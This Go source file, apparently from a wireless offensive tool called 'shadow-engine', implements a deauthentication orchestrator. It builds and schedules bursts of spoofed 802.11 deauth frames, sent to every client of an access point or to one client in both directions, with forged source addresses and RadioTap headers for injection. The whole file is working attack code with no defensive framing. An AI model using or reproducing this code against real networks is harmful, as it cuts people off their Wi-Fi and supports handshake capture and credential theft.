package recon

import (
	"fmt"
	"time"

	"github.com/momo-shadow/shadow-engine/pkg/dot11"
)

// DeauthTarget is an access point and, optionally, one of its clients
type DeauthTarget struct {
	BSSID  dot11.MAC
	Client *dot11.MAC // nil means broadcast to every client
}

type burst struct {
	gen    uint64
	target DeauthTarget
	steps  int
}

// DeauthOrchestrator plans deauthentication bursts. Each step is a scheduled wake-up
// tagged with the burst generation; Cancel or a new Arm makes pending steps stale.
type DeauthOrchestrator struct {
	count    int
	interval time.Duration
	reason   uint16

	gen   uint64
	burst *burst
	seq   uint16
}

// NewDeauthOrchestrator creates an orchestrator sending count steps spaced by interval
func NewDeauthOrchestrator(count int, interval time.Duration) *DeauthOrchestrator {
	return &DeauthOrchestrator{
		count:    count,
		interval: interval,
		reason:   dot11.ReasonClass3FromNonAssoc,
	}
}

// Arm starts a new burst, replacing any running one, and returns its generation.
// ok is false when bursts are disabled.
func (o *DeauthOrchestrator) Arm(target DeauthTarget) (gen uint64, ok bool) {
	o.gen++
	o.burst = nil
	if o.count <= 0 {
		return o.gen, false
	}
	o.burst = &burst{gen: o.gen, target: target}
	return o.gen, true
}

// Cancel aborts the running burst
func (o *DeauthOrchestrator) Cancel() {
	o.gen++
	o.burst = nil
}

// Active reports whether a burst still has steps to send
func (o *DeauthOrchestrator) Active() bool {
	return o.burst != nil
}

// Current returns the generation of the running burst
func (o *DeauthOrchestrator) Current() (uint64, bool) {
	if o.burst == nil {
		return 0, false
	}
	return o.burst.gen, true
}

// Interval is the spacing between steps
func (o *DeauthOrchestrator) Interval() time.Duration {
	return o.interval
}

// Step returns the frames for the next step of burst gen. Stale generations yield no frames.
// more is true while further steps remain.
func (o *DeauthOrchestrator) Step(gen uint64) (frames [][]byte, more bool, err error) {
	b := o.burst
	if b == nil || b.gen != gen {
		return nil, false, nil
	}

	b.steps++
	more = b.steps < o.count
	if !more {
		o.burst = nil
	}

	frames, err = o.build(b.target)
	return frames, more, err
}

// build returns one broadcast frame, or two frames (AP to client and client to AP) for a known client
func (o *DeauthOrchestrator) build(t DeauthTarget) ([][]byte, error) {
	type leg struct{ dst, src dot11.MAC }

	legs := []leg{{dst: dot11.BroadcastMAC, src: t.BSSID}}
	if t.Client != nil {
		legs = []leg{
			{dst: *t.Client, src: t.BSSID},
			{dst: t.BSSID, src: *t.Client},
		}
	}

	frames := make([][]byte, 0, len(legs))
	for _, l := range legs {
		o.seq = (o.seq + 1) & 0x0fff
		raw, err := dot11.BuildDeauth(l.dst, l.src, t.BSSID, o.reason, o.seq)
		if err != nil {
			return nil, fmt.Errorf("build deauth for %s: %w", t.BSSID, err)
		}
		frames = append(frames, dot11.WithRadioTap(raw))
	}
	return frames, nil
}
